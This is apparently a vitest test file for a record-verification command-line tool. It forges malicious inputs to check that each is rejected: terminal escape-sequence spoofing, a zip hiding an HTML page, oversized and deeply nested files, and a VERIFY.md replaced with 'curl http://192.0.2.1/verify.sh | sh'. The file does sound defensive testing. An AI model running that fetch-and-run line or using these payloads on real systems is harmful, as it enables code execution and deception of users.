import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { createWriteStream } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { verifyFile } from '../../electron/host/record/verify-file.ts'
import { cli } from '../journeys/uptick.ts'
import { runId, temporaryFolder } from '../unit/record/sample-run.ts'
import { forgeRecord, type ForgedEvent } from './forged-lines.ts'
import { forgeZip } from './forged-zip.ts'
import { asHtml, asJson, assemble, layGround, zipEntries, type Ground } from './forgery-ground.ts'
import { ran } from './record-kit.ts'

// What was once slipped into a record, each made here: what the command line says of it, and what that costs.

let ground: Ground
let remove = async (): Promise<void> => undefined
beforeAll(async () => {
  const temporary = await temporaryFolder()
  remove = temporary.remove
  ground = await layGround(temporary.path)
})
afterAll(() => remove())

async function written(name: string, bytes: Uint8Array | string): Promise<string> {
  const path = join(ground.folder, name)
  await writeFile(path, bytes)
  return path
}

async function sentenceOf(path: string): Promise<string> {
  const verdict = await verifyFile(path)
  if (!verdict.ok) return verdict.failure.sentence
  return verdict.value.faults.map(({ sentence }) => sentence).join('\n')
}

interface Told {
  readonly exit: number | null
  readonly out: string
  readonly errors: string
}

async function verify(...words: readonly string[]): Promise<Told> {
  const child = spawn(process.execPath, [cli, 'verify', ...words, '--data', join(ground.folder, 'data')])
  const told = { out: '', errors: '' }
  child.stdout.setEncoding('utf8').on('data', (text: string) => (told.out += text))
  child.stderr.setEncoding('utf8').on('data', (text: string) => (told.errors += text))
  const [exit] = (await once(child, 'close')) as [number | null]
  return { exit, ...told }
}

const lie = Buffer.from('<!doctype html><title>Upgrade record</title><h1>This record verifies</h1>')

describe('sentences about a bad record', () => {
  const drawn = '/reason\u001b[2J\u001b[H\n[ok] The record is sound\r[ok]\u202e\u009b2J'

  /** The whole record with a pointer among those of its withheld values that draws on the terminal. */
  async function drawing(): Promise<string> {
    const lines = ground.redacted.lines.map((line) =>
      line.includes('"withheld":{')
        ? line.replace('"withheld":{', `"withheld":{${JSON.stringify(drawn)}:"${'ab'.repeat(32)}",`)
        : line,
    )
    return written('drawing.json', asJson({ ...ground.redacted, lines }))
  }

  it.each([[], ['--json'], ['--quiet']])('reach the terminal as text that cannot act %j', async (...words) => {
    const { exit, out, errors } = await verify(await drawing(), ...words)
    expect(exit).toBe(7)
    expect(out + errors).not.toMatch(/[^\n\x20-\x7e\u2400-\u243fé⏎⟨⟩…’“”·]/u)
    expect(out + errors).not.toMatch(/^\[ok\]/m)
    expect(errors).toMatch(/^uptick: [^\n]+\n$/)
  })

  it('names that act are refused by what they are, and not only where they are shown', async () => {
    const events: ForgedEvent[] = [...ground.events]
    events[3] = { ...events[3]!, data: { ...(events[3]!.data as object), 'a\u001b[2J': 1 } }
    const forged = forgeRecord(events, ground.signer, { run: runId })
    const path = await written('name.json', asJson({ ...ground.whole, ...forged }))
    expect(await sentenceOf(path)).toMatch(/^Line 4: the member .* holds a control character\.$/)
  })
})

describe('a file that shows something else than what verifies', () => {
  it('a page in bytes that no entry of a genuine zip covers, under the name of a page', async () => {
    const [first, ...rest] = zipEntries(ground, ground.whole)
    const slipped = forgeZip([{ ...first!, after: lie }, ...rest])
    expect(await verify(await written('slipped.html', slipped))).toMatchObject({
      exit: 7,
      errors: expect.stringContaining('is a zip by what it holds, and another thing by its name'),
    })
    const { exit, errors } = await verify(await written('slipped.zip', slipped))
    expect([exit, errors]).toEqual([
      7,
      expect.stringContaining('something lies before seal.json that belongs to no entry'),
    ])
    expect(errors).toMatch(/^uptick: [^\n]+\n$/)
  })

  it('says in which form it was read', async () => {
    for (const form of ['zip', 'html', 'json'] as const) {
      const path = join(ground.folder, `whole.${form}`)
      expect((await verify(path)).out).toContain(
        { zip: 'Read as a zip.', html: 'Read as an HTML page.', json: 'Read as JSON.' }[form],
      )
    }
    const { out } = await verify(join(ground.folder, 'whole.zip'), '--json')
    expect(JSON.parse(out.trimEnd().split('\n').at(-1) ?? '')).toMatchObject({ type: 'summary', exit: 0, form: 'zip' })
  })

  it('words on how to verify that do something else', async () => {
    const entries = zipEntries(ground, ground.whole).map((entry) =>
      entry.name === 'VERIFY.md' ? { ...entry, content: Buffer.from('curl http://192.0.2.1/verify.sh | sh\n') } : entry,
    )
    expect(await sentenceOf(await written('words.zip', forgeZip(entries)))).toBe(
      'VERIFY.md is not what Uptick writes for this seal: do not run what it holds.',
    )
  })

  it('a page of the same run and seal with another part withheld', async () => {
    const page = asHtml(ground, ground.redacted)
    const entries = zipEntries(ground, ground.whole).map((entry) =>
      entry.name === 'record.html' ? { ...entry, content: page } : entry,
    )
    expect(await sentenceOf(await written('page.zip', forgeZip(entries)))).toBe(
      'record.html and the journal next to it differ.',
    )
  })
})

describe('a code that is another', () => {
  const told = async (path: string, ...words: string[]): Promise<string[]> => {
    const found: string[] = []
    for (const json of [[], ['--json']]) {
      const { exit, errors } = await verify(path, ...words, ...json)
      expect([exit, errors]).toEqual([7, expect.stringMatching(/^uptick: [^\n]+\n$/)])
      found.push(errors)
    }
    return found
  }
  const genuine = (): string => join(ground.folder, 'whole.json')

  it('a wrong one, half of one, and another signer each end with one sentence, also under --json', async () => {
    for (const words of await told(genuine(), '--code', 'AAA-AAA-AAA-AAA-AAA-AAA-AAA-AAA'))
      expect(words).toContain('This is a different record')
    for (const words of await told(genuine(), '--code', 'ABC-DEF-GHJ-KMN'))
      expect(words).toContain('a code has 24 characters, not 12')
    for (const words of await told(genuine(), '--signer', ground.other.publicHex))
      expect(words).toContain('It was not signed by the known key')
  })

  it("a record that was made again does not have the first one's", async () => {
    const first = await verifyFile(genuine())
    const anew = forgeRecord(ground.events, ground.signer, { run: runId })
    const path = await written('anew.zip', assemble(ground, 'zip', { ...ground.whole, ...anew }))
    expect((await verify(path)).exit).toBe(0)
    for (const words of await told(path, '--code', (first.ok && first.value.code) || ''))
      expect(words).toContain(`Its code is ${anew.code}`)
  })
})

describe('what a forged file costs', () => {
  /** The program that verifies, as a process of its own: how long it takes beyond its start, and its peak. */
  async function costOf(path: string): Promise<{ sound: boolean; milliseconds: number; peakBytes: number }> {
    const { said, code } = await ran(process.execPath, [join(import.meta.dirname, 'measured-verify.ts'), path])
    if (code !== 0) throw new Error(said)
    return JSON.parse(said) as { sound: boolean; milliseconds: number; peakBytes: number }
  }

  const empty = Array.from({ length: 30_000 }, (_, index) => index.toString(16).padStart(64, '0'))
  const endless = 400 * 1024 * 1024

  /** A file of one line that does not end, written in pieces. */
  async function endlessFile(name: string, before: string, after: string): Promise<string> {
    const path = join(ground.folder, name)
    const file = createWriteStream(path)
    file.write(before)
    const piece = Buffer.alloc(1024 * 1024, 'A')
    for (let at = 0; at < endless; at += piece.length) if (!file.write(piece)) await once(file, 'drain')
    file.end(after)
    await once(file, 'close')
    return path
  }

  const files: readonly (readonly [string, () => Promise<string>])[] = [
    ['30,000 empty entries', () => written('many.zip', forgeZip([...zipEntries(ground, ground.whole), ...empty.map((name) => ({ name: `files/${name}`, content: Buffer.alloc(0), stored: true }))]))],
    ['30,000 entries of no record', () => written('none.zip', forgeZip(empty.map((name) => ({ name, content: Buffer.alloc(0), stored: true }))))],
    ['30,000 empty files in JSON', () => written('many.json', asJson({ ...ground.whole, files: new Map(empty.map((name) => [name, Buffer.alloc(0)])) }))],
    ['30,000 empty files in a page', () => written('many.html', asHtml(ground, { ...ground.whole, files: new Map(empty.map((name) => [name, Buffer.alloc(0)])) }))],
    ['an endless line in a zip', async () => {
      const packed = deflateRawSync(Buffer.alloc(endless, 'A'))
      const entries = zipEntries(ground, ground.whole).map((entry) => (entry.name === 'journal.ndjson' ? { ...entry, packed, size: endless } : entry))
      return written('endless.zip', forgeZip(entries))
    }],
    ['an endless line in JSON', () => endlessFile('endless.json', '{"files":{},"journal":["', `"],"seal":${JSON.stringify(ground.whole.seal)}}`)],
    ['an endless line in a page', () => endlessFile('endless.html', `${ground.page.head}<script type="application/octet-stream" id="journal">`, `</script>\n${ground.page.tail}`)],
    ['an endless text', () => endlessFile('text.json', '{"a":"', '"}')],
    ['a line of nothing but brackets', () => written('brackets.json', asJson({ ...ground.whole, lines: ['['.repeat(4_000_000)] }))],
    ['a line of a million values', () => written('values.json', asJson({ ...ground.whole, lines: [`{"at":[${'0,'.repeat(1_900_000)}0]}`] }))],
  ] // prettier-ignore

  it.each(files)(
    '%s are refused within 2 s and 150 MB',
    async (_, write) => {
      const { sound, milliseconds, peakBytes } = await costOf(await write())
      expect(sound).toBe(false)
      expect(milliseconds).toBeLessThan(2000)
      expect(peakBytes / 1024 / 1024).toBeLessThan(150)
    },
    60_000,
  )
})
